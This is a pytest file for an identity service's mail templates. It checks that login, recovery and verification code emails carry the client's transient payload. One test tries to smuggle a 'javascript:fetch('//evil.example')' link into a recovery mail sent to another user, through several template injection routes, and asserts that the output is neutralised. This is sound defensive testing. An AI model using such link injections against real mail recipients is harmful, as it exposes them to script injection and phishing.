"""What a live Warden hands the courier's templates, field by field, as Kratos's `code/code_sender.go`
fills its template models: `To`, the code, `Identity`, `RequestURL`, `ExpiresInMinutes` and the
`TransientPayload` the client submitted with the flow, for the sign-in code and the recovery code
alike, and for the verification code a sign-up or a settings change sends (Kratos's
`NewPostHookFlow` gives their verification flows the payload of the submission that made them). An
operator's override template (a Go template, as in Kratos) shows each one."""

from __future__ import annotations

import base64
import uuid
from collections.abc import Iterator

import pytest

from tests.code_helpers import CodeStack, SmsSink, code_config
from tests.factories import running_warden
from tests.mail_helpers import RECOVERY_UI, VERIFICATION_UI, wait_for_mail
from tests.selfservice_helpers import PASSWORD, create_identity, selfservice_settings
from tests.smtp import SmtpServer

SHOWN = (
    "{{ .To }}|{{ .Identity.traits.email }}|{{ .ExpiresInMinutes }}|{{ .TransientPayload.campaign }}"
    "|{{ if .RequestURL }}url{{ end }}|{{ len %s }}"
)

# An operator's HTML body that links to where the client asks (as Go's html/template renders it):
# a value alone, one through `html`, a link made of two values, and a value in an unquoted attribute.
LINKED = (
    '<a href="{{ .TransientPayload.next }}">Continue</a> <a href="{{ .TransientPayload.next | html }}">Again</a> '
    '<a href="{{ .TransientPayload.scheme }}{{ .TransientPayload.rest }}">Split</a> '
    '<a class={{ .TransientPayload.look }} href="https://example.com/">Home</a> {{ .RecoveryCode }}'
)


def _b64(text: str) -> str:
    return "base64://" + base64.b64encode(text.encode()).decode()


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory, smtp: SmtpServer) -> Iterator[CodeStack]:
    sms = SmsSink()
    directory = tmp_path_factory.mktemp("template-data")
    config = code_config(smtp, sms)
    config["courier"]["templates"] = {
        "login_code": {"valid": {"email": {"subject": _b64(SHOWN % ".LoginCode")}}},
        "recovery_code": {
            "valid": {"email": {"subject": _b64(SHOWN % ".RecoveryCode"), "body": {"html": _b64(LINKED)}}}
        },
        "verification_code": {"valid": {"email": {"subject": _b64(SHOWN % ".VerificationCode")}}},
    }
    config["flows"]["recovery"] = {"enabled": True, "use": "code", "ui_url": RECOVERY_UI}
    config["flows"]["verification"] = {"enabled": True, "use": "code", "ui_url": VERIFICATION_UI}
    settings = selfservice_settings(directory, f"sqlite://{directory}/w.sqlite", **config)
    with running_warden(settings) as warden:
        yield CodeStack(warden, smtp, sms)
    sms.close()


def test_a_login_code_mail_gets_the_flows_transient_payload(stack: CodeStack) -> None:
    email = f"tp-{uuid.uuid4().hex[:8]}@example.com"
    create_identity(stack.warden.admin_url, email)
    flow = stack.native.get("/self-service/login/api").json()
    body = {"method": "code", "identifier": email, "transient_payload": {"campaign": "spring"}}
    assert stack.native.post(f"/self-service/login?flow={flow['id']}", body).status == 400  # the code form
    [mail] = wait_for_mail(stack.smtp, email)
    assert mail.subject == f"{email}|{email}|10|spring|url|6"  # login codes live 10 minutes (DESIGN.md §9)


def test_a_recovery_code_mail_gets_the_flows_transient_payload(stack: CodeStack) -> None:
    email = f"tp-{uuid.uuid4().hex[:8]}@example.com"
    create_identity(stack.warden.admin_url, email)
    flow = stack.native.get("/self-service/recovery/api").json()
    body = {"method": "code", "email": email, "transient_payload": {"campaign": "autumn"}}
    assert stack.native.post(f"/self-service/recovery?flow={flow['id']}", body).status == 200
    [mail] = wait_for_mail(stack.smtp, email)
    assert mail.subject == f"{email}|{email}|15|autumn|url|6"


def test_a_client_cannot_put_a_script_link_into_a_mail_sent_to_someone_else(stack: CodeStack) -> None:
    """Anyone may start a recovery for any address, with a transient payload of their choosing: an
    HTML body that links to a value from it must not give the mail's owner a `javascript:` link (Go's
    html/template, which Kratos renders with, refuses the scheme in a URL attribute): not through a
    pipeline ending in `html`, not spelled over two values (both start the link, as in Go), not as
    an attribute a value in an unquoted one adds (the first `href` is the one a browser follows)."""
    email = f"tp-{uuid.uuid4().hex[:8]}@example.com"
    create_identity(stack.warden.admin_url, email)
    flow = stack.native.get("/self-service/recovery/api").json()
    script = "javascript:fetch('//evil.example')"
    payload = {"next": script, "scheme": "java", "rest": script[4:], "look": f"x href={script}"}
    body = {"method": "code", "email": email, "transient_payload": payload}
    assert stack.native.post(f"/self-service/recovery?flow={flow['id']}", body).status == 200
    [mail] = wait_for_mail(stack.smtp, email)
    assert mail.html.startswith(
        '<a href="#ZgotmplZ">Continue</a> <a href="#ZgotmplZ">Again</a> <a href="java#ZgotmplZ">Split</a> '
        '<a class=x&#32;href&#61;javascript:fetch(&#39;//evil.example&#39;) href="https://example.com/">Home</a> '
    ), mail.html


def _signed_up(stack: CodeStack, email: str, payload: dict[str, str]) -> str:
    """A sign-up by password in an app, with `payload`; its session token."""
    flow = stack.native.get("/self-service/registration/api").json()
    body = {"method": "password", "traits": {"email": email}, "password": PASSWORD, "transient_payload": payload}
    registered = stack.native.post(f"/self-service/registration?flow={flow['id']}", body)
    assert registered.status == 200, registered
    return str(registered.json()["session_token"])


def test_a_sign_ups_verification_mail_gets_the_sign_ups_transient_payload(stack: CodeStack) -> None:
    """Sent later, from the committed `identity.created` (verifier.py), with the payload kept till then."""
    email = f"tp-{uuid.uuid4().hex[:8]}@example.com"
    _signed_up(stack, email, {"campaign": "summer"})
    [mail] = wait_for_mail(stack.smtp, email)
    assert mail.subject == f"{email}|{email}|15|summer|url|6"


def test_a_new_addresss_verification_mail_gets_the_settings_transient_payload(stack: CodeStack) -> None:
    email, new = (f"tp-{uuid.uuid4().hex[:8]}@example.com" for _ in range(2))
    token = {"X-Session-Token": _signed_up(stack, email, {"campaign": "summer"})}
    flow = stack.native.get("/self-service/settings/api", token).json()
    body = {"method": "profile", "traits": {"email": new}, "transient_payload": {"campaign": "winter"}}
    changed = stack.native.post(f"/self-service/settings?flow={flow['id']}", body, token)
    assert changed.status == 200, changed
    [mail] = wait_for_mail(stack.smtp, new)
    assert mail.subject == f"{new}|{new}|15|winter|url|6"
